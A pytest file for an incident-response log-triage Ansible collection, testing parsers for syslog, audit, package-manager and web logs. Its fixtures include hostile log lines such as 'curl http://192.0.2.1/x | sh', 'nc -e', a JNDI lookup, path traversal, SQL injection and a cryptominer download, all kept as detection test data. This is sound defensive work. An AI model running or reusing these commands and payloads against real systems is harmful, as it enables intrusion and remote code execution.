# Copyright (c) 2026, the csirt.linux_triage authors
# GNU General Public License v3.0-or-later (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
from __future__ import annotations

import datetime
import json
import time

import pytest

from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis import _log_found
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis._log_audit import Audit
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis._log_clock import UTC, LogClock, Zone, zone_of
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis._log_found import Found
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis._log_packages import AptHistory, Packages
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis._log_syslog import Syslog
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis._log_web import Errors, Requests

BERLIN = zone_of(b'{"machine": {"localtime": "/usr/share/zoneinfo/Europe/Berlin"}, "clocks": {}}')
READERS = (Audit, AptHistory, Packages, Requests, Errors, Syslog)


def epoch(text):
    return int(datetime.datetime.fromisoformat(text + "+00:00").timestamp())


def read(reader, *lines, modified="2026-11-25T12:00:00", zone=BERLIN, suspects=frozenset()):
    found = Found(LogClock(zone, epoch(modified)), suspects)
    one = reader(found)
    for number, line in enumerate(lines, 1):
        one.read(number, line)
    one.finish()
    return list(found.rows())


SYSLOG = [
    (b"sshd[1]: Accepted publickey for root from 203.0.113.5 port 4711 ssh2: ED25519 SHA256:x", "ssh_login", "root", "203.0.113.5"),
    (b"sshd-session[1]: Accepted password for a from b from 2001:db8::1 port 1 ssh2", "ssh_login", "a", "b"),
    (b"sshd[1]: Failed password for invalid user admin from 203.0.113.5 port 4711 ssh2", "ssh_failed", "admin", "203.0.113.5"),
    (b"sshd[1]: Invalid user  from 203.0.113.5 port 1", "ssh_invalid_user", None, "203.0.113.5"),
    (b"sshd[1]: Server listening on 0.0.0.0 port 22.", "ssh_server", None, None),
    (b"sudo[1]:   alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id", "sudo", "alice", None),
    (b"sudo:   alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/su", "sudo_refused", "alice", None),
    (b"sudo: bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/su", "sudo_refused", "bob", None),
    (b"su: (to root) alice on pts/1", "su", None, None),
    (b"su: pam_unix(su:auth): authentication failure; logname= uid=1 euid=0 tty= ruser=a rhost=192.0.2.7  user=root",
     "auth_failed", "root", "192.0.2.7"),
    (b"su: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)", "session", "root", None),
    (b"useradd[1]: new user: name=eve, UID=0, GID=0, home=/, shell=/bin/bash, from=none", "account_change", None, None),
    (b"passwd[1]: pam_unix(passwd:chauthtok): password changed for root", "account_change", None, None),
    (b"usermod[1]: add 'eve' to group 'sudo'", "account_change", None, None),
    (b"CRON[1]: (root) CMD (curl http://192.0.2.1/x | sh)", "cron_command", "root", None),
    (b"crontab[1]: (www-data) REPLACE (www-data)", "cron_change", "www-data", None),
    (b"kernel: [   12.345678] evil: module verification failed: signature and/or required key missing", "kernel_module", None, None),
    (b"kernel: Linux version 6.1.0-1-amd64 (x)", "boot", None, None),
    (b"rsyslogd: [origin software=\"rsyslogd\"] exiting on signal 15.", "log_daemon", None, None),
    (b"systemd[1]: Started backdoor.service - Update.", "unit", None, None),
]


@pytest.mark.parametrize("text, kind, user, address", SYSLOG)
@pytest.mark.parametrize("prefix", [b"Nov 25 10:00:00 web01 ", b"<86>2026-11-25T10:00:00.000000+01:00 web01 "])
def test_lines_of_syslog(prefix, text, kind, user, address):
    assert Syslog.fits(prefix + text)
    (row,) = read(Syslog, prefix + text)
    assert (row["kind"], row["user_name"], row["address"]) == (kind, user, address)
    assert row["time"] == "2026-11-25T09:00:00Z" and row["line"] == 1 and row["n"] == 1
    assert row["message"] in (text.partition(b": ")[2]).decode()


@pytest.mark.parametrize("line", [
    b"CRON[1]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
    b"systemd[1]: Started Session 4 of User root.", b"systemd[1]: Stopped target basic.target - Basic System.",
    b"systemd[1]: Started dbus.socket - D-Bus System Message Bus Socket.",
    b"sshd[1]: Connection closed by 203.0.113.5 port 1",
    b"evil[1]: Accepted password for root from 203.0.113.5 port 1 ssh2",
])
def test_lines_that_tell_nothing(line):
    assert read(Syslog, b"Nov 25 10:00:00 web01 " + line) == []


def test_many_failures_are_one_row_an_hour_and_address():
    failed = b"Nov 25 10:%02d:00 h sshd[1]: Failed password for %b from 192.0.2.1 port 1 ssh2"
    lines = [failed % (minute, user) for minute, user in enumerate((b"root", b"admin", b"root"))]
    lines += [b"Nov 25 10:05:00 h sshd[1]: message repeated 7 times: [ Failed password for root from 192.0.2.1 port 1 ssh2]"]
    (row,) = read(Syslog, *lines)
    assert row["n"] == 10 and row["users"] == ["admin", "root"] and row["user_name"] is None
    assert (row["time"], row["last_time"]) == ("2026-11-25T09:00:00Z", "2026-11-25T09:05:00Z")


YEARS = [
    # day of the last line, mtime, year of the last line
    ("Nov 25", "2026-11-25T12:00:00", 2026),
    ("Dec 31", "2027-01-01T00:00:01", 2026),
    ("Dec 31", "2026-12-31T22:30:00", 2026),
    ("Jan  1", "2026-12-31T23:00:00", 2027),
    ("Nov 26", "2026-11-25T12:00:00", 2026),
    ("Nov 28", "2026-11-25T12:00:00", 2025),
    ("Feb 29", "2024-03-05T00:00:00", 2024),
]


@pytest.mark.parametrize("day, modified, year", YEARS)
def test_the_year_is_that_of_the_mtime(day, modified, year):
    (row,) = read(Syslog, day.encode() + b" 12:00:00 h kernel: Linux version 6", modified=modified)
    assert row["time"][:4] == str(year)
    assert "year" in row["derived"] and "Europe/Berlin" in row["derived"]


def test_years_turn_inside_a_file_also_between_lines_that_tell_nothing():
    days = ("Nov 30", "Mar  1", "Nov 30", "Feb  1")
    lines = [day.encode() + b" 12:00:00 h kernel: Linux version 6" for day in days]
    lines[2] = b"Nov 30 12:00:00 h nobody: nothing"
    rows = read(Syslog, *lines, modified="2026-02-02T00:00:00")
    assert [row["time"][:7] for row in rows] == ["2024-11", "2025-03", "2026-02"]


def test_local_times_follow_daylight_time():
    lines = [day + b" 12:00:00 h kernel: Linux version 6" for day in (b"Jul  1", b"Nov  1")]
    assert [row["time"][11:13] for row in read(Syslog, *lines)] == ["10", "11"]


ZONES = [
    ({"localtime": "../usr/share/zoneinfo/Asia/Tokyo"}, {}, "Asia/Tokyo"),
    ({"localtime": None, "timezone": "Asia/Tokyo"}, {}, "Asia/Tokyo"),
    ({"localtime": "/usr/share/zoneinfo/../../../etc/passwd"}, {"utc_offset_seconds": 3600}, "offset +3600 s"),
    ({"localtime": "/usr/share/zoneinfo/Not/There"}, {"utc_offset_seconds": -3600}, "offset -3600 s"),
    ({"localtime": ["a"]}, {"utc_offset_seconds": 10 ** 9}, "not known, taken as UTC"),
]


@pytest.mark.parametrize("machine, clocks, name", ZONES)
def test_zones(machine, clocks, name):
    assert zone_of(json.dumps({"machine": machine, "clocks": clocks}).encode()).name == name


@pytest.mark.parametrize("identity", [b"", b"[]", b"[" * 100_000, b'{"machine": 1, "clocks": 2}', b"\xff"])
def test_an_identity_that_is_none(identity):
    assert zone_of(identity) == Zone(UTC, "not known, taken as UTC")


PACKAGES = [
    (Packages, b"2026-11-25 10:00:00 install netcat:amd64 <none> 1.2", "dpkg", "install netcat:amd64 <none> 1.2"),
    (Packages, b"2026-11-25T10:00:00+0100 SUBDEBUG Installed: nc-1.2.x86_64", "dnf", "Installed: nc-1.2.x86_64"),
    (Packages, b"Nov 25 10:00:00 Installed: 2:nc-1.2.x86_64", "yum", "Installed: 2:nc-1.2.x86_64"),
    (Packages, b"2026-11-25 10:00:00|install|nc|1.2|x86_64|root@h|repo|x|", "zypper", "install|nc|1.2|x86_64|root@h|repo|x|"),
    (Packages, b"[2026-11-25T10:00:00+0100] [ALPM] installed nc (1.2)", "pacman", "[ALPM] installed nc (1.2)"),
]


@pytest.mark.parametrize("reader, line, program, message", PACKAGES)
def test_lines_of_package_managers(reader, line, program, message):
    assert reader.fits(line) and not any(other.fits(line) for other in READERS[:READERS.index(reader)])
    (row,) = read(reader, line)
    assert row["time"] == "2026-11-25T09:00:00Z"
    assert (row["kind"], row["program"], row["message"]) == ("package", program, message)


def test_dpkg_says_many_things_that_are_no_change():
    lines = [b"2026-11-25 10:00:00 status installed nc:amd64 1", b"2026-11-25 10:00:00 startup archives unpack"]
    assert read(Packages, *lines) == [] and Packages.fits(lines[0])


def test_history_of_apt():
    lines = [b"", b"Start-Date: 2026-11-25  10:00:00", b"Commandline: apt-get install nc", b"Requested-By: eve (1000)",
             b"Install: nc:amd64 (1.2)", b"End-Date: 2026-11-25  10:00:01", b"Start-Date: 2026-11-25  10:00:09"]
    (row,) = read(AptHistory, *lines)
    assert row["time"] == "2026-11-25T09:00:00Z" and row["line"] == 2 and row["user_name"] == "eve"
    assert row["message"] == "Commandline: apt-get install nc; Requested-By: eve (1000); Install: nc:amd64 (1.2)"


AUDIT = [
    (b"type=ADD_USER msg=audit(1700000000.123:4): pid=1 auid=0 msg='op=add-user acct=\"eve\" exe=\"/usr/sbin/useradd\" addr=? res=success'",
     "account_change", "eve", None),
    (b"type=USER_LOGIN msg=audit(1700000000.123:4): msg='op=login acct=\"root\" addr=192.0.2.1 terminal=ssh res=failed'",
     "auth_failed", "root", "192.0.2.1"),
    (b"node=h type=EXECVE msg=audit(1700000000.123:4): argc=2 a0=\"nc\" a1=\"-e\"", "audit_command", None, None),
    (b"type=ANOM_PROMISCUOUS msg=audit(1700000000.123:4): dev=eth0 prom=256", "audit_anomaly", None, None),
]


@pytest.mark.parametrize("line, kind, user, address", AUDIT)
def test_records_of_audit(line, kind, user, address):
    assert Audit.fits(line)
    (row,) = read(Audit, line)
    assert row["time"] == "2023-11-14T22:13:20.123000Z" and row["derived"] is None
    assert (row["kind"], row["user_name"], row["address"]) == (kind, user, address)


def request(target, method=b"GET", status=b"200", agent=b"Mozilla", address=b"203.0.113.5", host=b"", minute=0):
    return host + address + b' - - [25/Nov/2026:10:%02d:00 +0100] "%b %b HTTP/1.1" %b 12 "-" "%b"' % (minute, method, target, status, agent)


REQUESTS = [
    (request(b"/x.php?cmd=id"), "web_command"),
    (request(b"/?f=../../../../etc/passwd", host=b"www.example.org:443 "), "web_path_traversal"),
    (request(b"/", agent=b"${jndi:ldap://192.0.2.1/a}"), "web_lookup"),
    (request(b"/a?id=1+UNION+ALL+SELECT+1"), "web_sql"),
    (request(b"/index.php?s=php://input", method=b"POST"), "web_php_code"),
    (request(b"/", agent=b"sqlmap/1.7"), "web_scanner"),
    (request(b"/shell.jsp", method=b"PUT", status=b"201"), "web_method"),
    (request(b"/uploads/a.php", method=b"POST"), "web_seldom_script"),
    (request(b"/uploads/known.php/x"), "web_suspect_script"),
]


@pytest.mark.parametrize("target, expected", [
    (b"/cache/index.php", ["web_suspect_script"]), (b"/shop/cache/index.php", ["web_suspect_script"]), (b"/index.php", []),
    (b"/shop/index.php", []), (b"/elsewhere/known.php", ["web_suspect_script"]), (b"/login.php", ["web_suspect_script"]), (b"/shop/login.php", []),
])
def test_a_name_that_every_folder_has_counts_in_its_own_alone(target, expected):
    rows = read(Requests, request(target), suspects=frozenset([b"/cache/index.php", b"/uploads/known.php", b"/login.php"]))
    assert [row["kind"] for row in rows] == expected


@pytest.mark.parametrize("line, kind", REQUESTS)
def test_requests_that_tell_of_an_attack(line, kind):
    assert Requests.fits(line)
    (row,) = read(Requests, line, suspects=frozenset([b"/old/known.php"]))
    assert (row["kind"], row["address"], row["time"]) == (kind, "203.0.113.5", "2026-11-25T09:00:00Z")


@pytest.mark.parametrize("line", [
    request(b"/"), request(b"/index.php?id=5"), request(b"/a.php", method=b"POST", status=b"404"), request(b"/c.html?c=1&page=2")[:40],
    request(b"/login", method=b"POST"),
])
def test_requests_that_are_usual(line):
    assert read(Requests, line) == []


def test_a_script_that_many_call_is_usual():
    lines = [request(b"/login.php", b"POST", address=b"192.0.2.%d" % number) for number in range(1, 4)]
    lines += [request(b"/x.php", b"POST", address=b"192.0.2.9", minute=minute) for minute in range(3)]
    (row,) = read(Requests, *lines)
    assert row["n"] == 3 and "/x.php" in row["message"] and row["last_time"] == "2026-11-25T09:02:00Z"


def test_a_scan_is_a_row_an_hour_and_kind_of_answer():
    lines = [request(b"/?f=../../%d" % number, status=b"404") for number in range(100)]
    lines.append(request(b"/?f=../../x", status=b"200"))
    assert sorted(row["n"] for row in read(Requests, *lines)) == [1, 100]


def test_error_logs_and_what_commands_said():
    lines = [
        b"[Wed Nov 25 10:00:00.5 2026] [mpm_prefork:notice] [pid 1] AH00163: Apache/2.4 configured -- resuming normal operations",
        b"--2026-11-25 10:00:01--  http://192.0.2.1/xmrig",
        b"sh: 1: whoami2: not found",
        b"2026/11/25 10:00:02 [error] 1#2: *3 open() \"/a\" failed (2: No such file), client: 203.0.113.5, server: x",
        b"[Wed Nov 25 10:00:03 2026] [php:error] [pid 1] [client 203.0.113.5:4711] PHP Fatal error:  eval()'d code",
        b"[Wed Nov 25 10:00:04 2026] [core:info] [pid 1] nothing",
    ]
    assert Errors.fits(lines[0]) and Errors.fits(lines[3])
    rows = read(Errors, *lines)
    assert [row["kind"] for row in rows] == ["web_server", "web_command_output", "web_command_output", "web_error"]
    assert rows[0]["time"] == "2026-11-25T09:00:00.500000Z" and rows[3]["n"] == 2


HOSTILE = [
    b"", b"\xff" * 8192, b"Nov 99 99:99:99 h kernel: Linux version 6", b"Xxx 25 10:00:00 h sshd[1]: Server listening on ",
    b"2026-99-99T99:99:99+99:99 h kernel: Linux version 6", b"type=EXECVE msg=audit(999999999999.123:4): x",
    b"2026-13-45 99:99:99 install x", b"Start-Date: 2026-13-45  99:99:99", b"[2026-99-99T10:00:00+9999] [ALPM] installed x",
    request(b"/x?cmd=1").replace(b"Nov", b"Xxx"), request(b"/x?cmd=1").replace(b"25/", b"99/"), b'"' * 8192, b"[" * 8192,
    b"a " * 4000, b'a - a [' + b"a [" * 2000, b'1 - - [25/Nov/2026:10:00:00 +0100] "' + b"\\" * 8000, b" " * 8192,
    b"Nov 25 10:00:00 h su: pam_unix(su:auth): authentication failure;" + b" rhost=" * 1000,
    b"Nov 25 10:00:00 h sshd[1]: Failed password for " + b" from " * 1300, b"../" * 2700, b"union" + b"/**/" * 2000,
    b"Nov 25 10:00:00 h sudo: a :" + b" COMMAND" * 1000,
]


@pytest.mark.parametrize("reader", READERS)
def test_hostile_lines_neither_fail_nor_hang(reader):
    begin = time.process_time()
    for line in HOSTILE:
        reader.fits(line)
    rows = read(reader, *HOSTILE * 20)
    assert time.process_time() - begin < 5
    assert all(row["message"].isprintable() for row in rows)


def test_names_of_a_hostile_host_are_escaped_and_short():
    name = "\u202e\x1b[31m".encode() + b"\xff" * 200
    (row,) = read(Syslog, b"Nov 25 10:00:00 h sshd[1]: Accepted password for %b from 192.0.2.1 port 1" % name)
    assert row["user_name"].startswith("\\xe2\\x80\\xae\\x1b[31m\\xff") and row["message"].isprintable()


def test_what_is_found_is_bounded(monkeypatch):
    monkeypatch.setattr(_log_found, "EVENTS", 3)
    monkeypatch.setattr(_log_found, "TALLIES", 2)
    found = Found(LogClock(BERLIN, epoch("2026-11-25T12:00:00")))
    reader = Syslog(found)
    for minute in range(5):
        reader.read(minute, b"Nov 25 10:%02d:00 h kernel: Linux version 6" % minute)
        reader.read(minute, b"Nov 25 10:%02d:00 h sshd[1]: Failed password for a from 192.0.2.%d port 1" % (minute, minute))
    rows = list(found.rows())
    assert [row["line"] for row in rows if row["kind"] == "boot"] == [2, 3, 4]
    assert len(rows) == 5 and found.dropped == 5
